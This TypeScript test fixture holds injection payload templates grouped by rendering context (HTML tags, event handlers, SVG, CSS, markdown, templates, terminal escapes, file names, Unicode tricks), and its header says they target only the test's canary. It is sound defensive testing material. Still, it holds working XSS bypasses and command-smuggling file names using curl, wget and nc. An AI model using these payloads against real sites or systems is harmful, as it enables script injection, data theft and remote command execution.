// Shapes of texts that would run or fetch something if a page took them for more than text: one list for each kind of place
// where a page goes wrong. A shape is filled with one deed (a line of script) or one address, and is never a real attack on
// anything but the canary of the test.

/** `deed`: a line of script without double quotes. `address`: what must never be asked. */
export interface Deed { readonly deed: string; readonly address: string }
export type Shape = (of: Deed) => string;

const entities = (text: string): string => [...text].map((sign) => `&#${sign.codePointAt(0)!};`).join('');
const hexEntities = (text: string): string => [...text].map((sign) => `&#x${sign.codePointAt(0)!.toString(16)}`).join('');
const percent = (text: string): string => [...text].map((sign) => `%${sign.codePointAt(0)!.toString(16).padStart(2, '0')}`).join('');
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const fullWidth = (text: string): string => text.replace(/[<>"'()/=]/g, (sign) => String.fromCodePoint(sign.codePointAt(0)! + 0xfee0));
const mixedCase = (text: string): string => [...text].map((sign, at) => (at % 2 === 0 ? sign.toUpperCase() : sign.toLowerCase())).join('');
const script = (deed: string): string => `<script>${deed}</script>`;
const escapedScript = (deed: string): string => [...deed].map((sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');

const tags: readonly Shape[] = [
  ({ deed }) => script(deed), ({ deed }) => `<ScRiPt >${deed}</sCrIpT\n>`, ({ address }) => `<script src="${address}"></script>`, ({ address }) => `<script type=module src=${address}></script>`,
  ({ deed }) => `</title></textarea></style>${script(deed)}`, ({ deed }) => `"><script>${deed}</script>`, ({ deed }) => `'>${script(deed)}`, ({ deed }) => `<!--><script>${deed}</script>-->`,
  ({ deed }) => `<![CDATA[${script(deed)}]]>`, ({ deed }) => `<scr<script>ipt>${deed}</scr</script>ipt>`, ({ deed }) => `<script\u0000>${deed}</script>`, ({ deed }) => `<script/x>${deed}</script>`,
  ({ deed }) => `<noscript><p title="</noscript>${script(deed)}">`, ({ deed }) => `<template>${script(deed)}</template>`, ({ deed }) => `<xmp><p title="</xmp>${script(deed)}">`, ({ address }) => `<script type="importmap">{"imports":{"react":"${address}"}}</script>`,
];
const handlers: readonly Shape[] = [
  ({ deed }) => `<img src=x onerror="${deed}">`, ({ deed }) => `<svg onload="${deed}">`, ({ deed }) => `<body onload="${deed}">`, ({ deed }) => `<details open ontoggle="${deed}"><summary>s</summary></details>`,
  ({ deed }) => `<video><source onerror="${deed}"></video>`, ({ deed }) => `<audio src=x onerror="${deed}"></audio>`, ({ deed }) => `<input autofocus onfocus="${deed}">`, ({ deed }) => `<select autofocus onfocus="${deed}"></select>`,
  ({ deed }) => `<marquee onstart="${deed}">m</marquee>`, ({ deed }) => `<iframe onload="${deed}"></iframe>`, ({ deed }) => `<object data=x onerror="${deed}"></object>`, ({ deed }) => `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart="${deed}">b</b>`,
  ({ deed }) => `<style onload="${deed}"></style>`, ({ deed }) => `<div onpointerenter="${deed}" style="position:fixed;inset:0">d</div>`, ({ deed }) => `<img/src=x/onerror=${entities(deed)}>`, ({ deed }) => `<img src=x oNeRrOr\n=\n"${deed}">`,
  ({ deed }) => `x" autofocus onfocus="${deed}" y="`, ({ deed }) => `x' onmouseover='${deed.replaceAll("'", '&#39;')}`, ({ deed }) => `<p contenteditable autofocus onfocus="${deed}">p</p>`, ({ deed }) => `<button popovertarget=p></button><div id=p popover onbeforetoggle="${deed}">o</div>`,
];
const drawn: readonly Shape[] = [
  ({ deed }) => `<svg>${script(deed)}</svg>`, ({ deed }) => `<svg><animate onbegin="${deed}" attributeName=x dur=1s></svg>`, ({ deed }) => `<svg><set attributeName=onload to="${deed}" onend="${deed}" dur=1ms></svg>`, ({ address }) => `<svg><image href="${address}"/></svg>`,
  ({ address }) => `<svg><use href="${address}#a"/></svg>`, ({ deed }) => `<svg><a xlink:href="javascript:${deed}"><text y=20>t</text></a></svg>`, ({ deed }) => `<svg><foreignObject><iframe srcdoc="&lt;script&gt;${deed}&lt;/script&gt;"></iframe></foreignObject></svg>`,
  ({ deed }) => `<math><mtext><table><mglyph><style><img src=x onerror="${deed}"></style></mglyph></table></mtext></math>`, ({ deed }) => `<math><a xlink:href="javascript:${deed}">m</a></math>`, ({ deed }) => `<svg><style><img src=x onerror="${deed}"></style></svg>`,
  ({ address }) => `<svg><style>@import '${address}';</style></svg>`, ({ address }) => `<svg><filter><feImage href="${address}"/></filter></svg>`, ({ deed }) => `<svg><desc><![CDATA[</desc>${script(deed)}]]></svg>`, ({ deed }) => `<math><annotation-xml encoding="text/html">${script(deed)}</annotation-xml></math>`,
];
const frames: readonly Shape[] = [
  ({ deed }) => `<iframe src="javascript:${deed}"></iframe>`, ({ deed }) => `<iframe srcdoc="${script(deed)}"></iframe>`, ({ deed }) => `<iframe srcdoc="${entities(script(deed))}"></iframe>`, ({ address }) => `<iframe src="${address}"></iframe>`,
  ({ deed }) => `<iframe src="data:text/html,${script(deed)}"></iframe>`, ({ deed }) => `<object data="data:text/html;base64,${base64(script(deed))}"></object>`, ({ address }) => `<object data="${address}"></object>`, ({ address }) => `<embed src="${address}">`,
  ({ deed }) => `<embed src="javascript:${deed}">`, ({ address }) => `<frameset><frame src="${address}"></frameset>`, ({ address }) => `<portal src="${address}"></portal>`, ({ address }) => `<iframe sandbox="allow-scripts allow-top-navigation" src="${address}"></iframe>`,
];
const loads: readonly Shape[] = [
  ({ address }) => `<img src="${address}">`, ({ address }) => `<img srcset="${address} 1x, ${address} 2x">`, ({ address }) => `<picture><source srcset="${address}"><img></picture>`, ({ address }) => `<video poster="${address}" src="${address}" autoplay></video>`,
  ({ address }) => `<audio src="${address}" autoplay></audio>`, ({ address }) => `<link rel=stylesheet href="${address}">`, ({ address }) => `<link rel=prefetch href="${address}"><link rel=preload as=image href="${address}">`, ({ address }) => `<link rel=dns-prefetch href="${address}"><link rel=preconnect href="${address}">`,
  ({ address }) => `<link rel=modulepreload href="${address}">`, ({ address }) => `<meta http-equiv=refresh content="0;url=${address}">`, ({ address }) => `<base href="${address}"><img src=x>`, ({ address }) => `<input type=image src="${address}">`,
  ({ address }) => `<body background="${address}"><table background="${address}">`, ({ address }) => `<video><track default src="${address}"></video>`, ({ address }) => `<form action="${address}"><button autofocus>go</button></form>`, ({ address }) => `<a href="x" ping="${address}">a</a>`,
  ({ address }) => `<button formaction="${address}">b</button>`, ({ address }) => `<link rel=manifest href="${address}"><link rel=icon href="${address}">`,
];
const styles: readonly Shape[] = [
  ({ address }) => `<style>*{background:url(${address})}</style>`, ({ address }) => `<p style="background-image:url('${address}')">p</p>`, ({ address }) => `<style>@import url("${address}");</style>`, ({ address }) => `<style>@font-face{font-family:f;src:url(${address})}*{font-family:f}</style>`,
  ({ address }) => `</style><style>input[value^="a"]{background:url(${address})}</style>`, ({ address }) => `<p style="content:url(${address});cursor:url(${address}),auto">p</p>`, ({ address }) => `<p style="background:image-set('${address}' 1x)">p</p>`, ({ deed }) => `<p style="width:expression(${deed})">p</p>`,
  ({ address }) => `x;background:url(${address});y:`, ({ address }) => `<p style="list-style-image:\\75 rl(${address})">p</p>`, ({ address }) => `<style>body::after{content:url(${address})}</style>`, ({ address }) => `<p style="mask:url(${address}#m);filter:url(${address}#f)">p</p>`,
];
const links: readonly Shape[] = [
  ({ deed }) => `[press](javascript:${deed.replace(/[()]/g, percent)})`, ({ deed }) => `[press](<javascript:${deed}>)`, ({ deed }) => `[press](JaVaScRiPt:${percent(deed)})`, ({ deed }) => `[press](java\tscript:${percent(deed)} "title")`,
  ({ deed }) => `[press](data:text/html;base64,${base64(script(deed))})`, ({ deed }) => `[press](vbscript:${percent(deed)})`, ({ address }) => `![seen](${address})`, ({ address }) => `[![seen](${address})](${address})`,
  ({ address }) => `![seen][r]\n\n[r]: ${address} "t"`, ({ deed }) => `[press][r]\n\n[r]: javascript:${deed}`, ({ address }) => `<${address}>`, ({ deed }) => `<javascript:${deed}>`,
  ({ address }) => `${address}?q="onmouseover="x`, ({ deed }) => `**[b](javascript:${percent(deed)})** *[i](&#106;avascript:${percent(deed)})*`, ({ deed }) => `# <img src=x onerror="${deed}">`, ({ deed }) => `> - <svg onload="${deed}">`,
  ({ deed }) => `| a | b |\n|---|---|\n| <img src=x onerror="${deed}"> | ${script(deed)} |`, ({ address }) => `[^1]\n\n[^1]: ![](${address})`, ({ address }) => `[file](file:///etc/passwd) [net](${address} 'x')`, ({ deed }) => `[a](https://x"onclick="${percent(deed)})`,
  ({ deed }) => `\`\`\`html" onload="${deed}\n${script(deed)}\n\`\`\``, ({ deed }) => `\`\`\`\n\`\`\`\n${script(deed)}\n\`\`\``, ({ deed }) => `\`\`\`\`\n\`\`\`\n${script(deed)}\n\`\`\`\``, ({ deed }) => `\`${script(deed)}\` \`\`<img src=x onerror="${deed}">\`\``,
];
const templates: readonly Shape[] = [
  ({ deed }) => `{{constructor.constructor('${deed.replaceAll("'", "\\'")}')()}}`, ({ deed }) => `\${${deed}}`, ({ deed }) => `<%= ${deed} %>`, ({ deed }) => `#{${deed}}`, ({ deed }) => `{% ${deed} %}`, ({ deed }) => `[[\${${deed}}]]`,
  ({ deed }) => `{name, select, other {${script(deed)}}}`, ({ deed }) => `{count, plural, one {#} other {<b>${deed}</b>}}`, ({ deed }) => `<b>${deed}</b></b><quiet>${script(deed)}</quiet>`, ({ deed }) => `'{'${deed}'}'`,
  ({ deed }) => `"}],"__proto__":{"innerHTML":"${entities(script(deed))}"}`, ({ deed }) => `</script>${script(deed)}<!--`, ({ deed }) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${entities(deed)}>"},"$$typeof":"react"}`, ({ address }) => `%s%n%x %c\u0000 ${address} \\x3cscript\\x3e`,
];
const unseen: readonly Shape[] = [
  ({ deed }) => `\u202e${script(deed)}\u202c`, ({ deed }) => `<scr\u200bipt>${deed}</scr\u200bipt>`, ({ deed }) => fullWidth(script(deed)), ({ deed }) => `\u2066<img src=x onerror="${deed}">\u2069`,
  ({ deed }) => `<img src=x onerror="${escapedScript('x')};${deed}">\u2028`, ({ deed }) => `\ufeff<svg/onload="${deed}">`, ({ deed }) => `<\u0000script>${deed}</script>`, ({ deed }) => `\ud800<img src=x onerror="${deed}">`,
  ({ deed }) => `${'z\u0310\u0311\u0312\u0313'.repeat(12)}${script(deed)}`, ({ address }) => `photo\u202egpj.exe ${address}`, ({ deed }) => `\u{e0001}\u{e003c}<iframe srcdoc="${script(deed)}">`, ({ deed }) => `\u2067\u202d<a href="javascript:${deed}">a</a>`,
];
const terminals: readonly Shape[] = [
  ({ address }) => `\u001b]8;;${address}\u0007here\u001b]8;;\u0007`, ({ deed }) => `\u001b[2J\u001b[1;1H${script(deed)}`, ({ deed }) => `\u001b]52;c;${base64(deed)}\u0007`, ({ deed }) => `all well\r\u001b[K${script(deed)}`,
  ({ deed }) => `\u001bP+q${hexEntities(deed)}\u001b\\`, ({ address }) => `\u009b31m${address}\u0008\u0008\u0008`, ({ deed }) => `\u001b]0;${deed}\u0007<img src=x onerror="${deed}">`,
];
const files: readonly Shape[] = [
  ({ deed }) => `"><img src=x onerror="${deed}">.png`, ({ deed }) => `a;${deed};.txt`, ({ address }) => `$(curl ${address}).md`, ({ address }) => `\`wget ${address}\`.txt`, ({ address }) => `| nc ${address} .txt`, ({ address }) => `..\\..\\${address}.lnk`,
  ({ address }) => `file://${address}`, ({ address }) => `\\\\${address.replace(/^\w+:\/\//, '').replaceAll('/', '\\')}\\x`, ({ deed }) => `javascript:${deed}.html`, ({ deed }) => `-e ${deed} --yes.txt`, ({ deed }) => `line\nbreak ${script(deed)}.txt`, ({ deed }) => `cv\u202efdp.${script(deed)}`,
];
const deep: readonly Shape[] = [
  ({ deed }) => `${'<b>'.repeat(200)}${script(deed)}`, ({ deed }) => `${'>'.repeat(600)} ${script(deed)}`, ({ address }) => `${'['.repeat(500)}x${']'.repeat(500)}(${address})`, ({ address }) => `${'!['.repeat(200)}${address}${'](x)'.repeat(200)}`,
  ({ deed }) => `${'*'.repeat(900)}${script(deed)}${'*'.repeat(900)}`, ({ deed }) => `${'`'.repeat(700)}${script(deed)}`, ({ deed }) => `${'- '.repeat(300)}<svg onload="${deed}">`, ({ deed }) => `${'<svg><g>'.repeat(90)}${script(deed)}`,
  ({ address }) => `${'('.repeat(400)}[x](${address}${')'.repeat(400)}`, ({ deed }) => `${'{'.repeat(400)}${deed}${'}'.repeat(400)}`, ({ deed }) => `${'&amp;'.repeat(150)}lt;script&gt;${deed}`, ({ deed }) => `${'\u202e'.repeat(200)}${script(deed)}`,
];
const encoded: readonly Shape[] = [
  ({ deed }) => entities(script(deed)), ({ deed }) => hexEntities(script(deed)), ({ deed }) => percent(script(deed)), ({ deed }) => script(deed).replaceAll('<', '&lt;'), ({ deed }) => entities(`&lt;img src=x onerror="${deed}"&gt;`), ({ deed }) => `+ADw-script+AD4-${deed}+ADw-/script+AD4-`,
  ({ deed }) => `<a href="${entities(`javascript:${deed}`)}">a</a>`, ({ deed }) => `<img src=x onerror="${hexEntities(deed)}">`, ({ deed }) => `<script>eval(atob('${base64(deed)}'))</script>`, ({ deed }) => `<a href="\u0001java\nscript\t:${deed}">a</a>`,
  ({ deed }) => `data:text/html;charset=utf-8,${percent(script(deed))}`, ({ deed }) => mixedCase(`<iMg sRc=x `) + `onerror="${deed}">`, ({ deed }) => `\\x3cscript\\x3e${deed}\\x3c/script\\x3e`,
];
const borders: readonly Shape[] = [
  ({ deed }) => `{"type":"call","id":1,"method":"consent.allow","input":{"offerId":"o-0000000000000000"}} ${script(deed)}`, ({ address }) => `{"type":"event","seq":1,"event":"intent","data":{}} ${address}`, ({ address }) => `ileices://join#${base64(address)}`, ({ address }) => `intent://x#Intent;S.browser_fallback_url=${address};end`,
  ({ address }) => `view-source:${address}`, ({ address }) => `blob:${address}`, ({ address }) => `ms-msdt:/id ${address}`, ({ deed }) => `<dialog open><h2>Allow?</h2><button autofocus onfocus="${deed}">Allow</button></dialog>`,
];

export const SHAPES: Readonly<Record<string, readonly Shape[]>> = { tags, handlers, drawn, frames, loads, styles, links, templates, unseen, terminals, files, deep, encoded, borders };
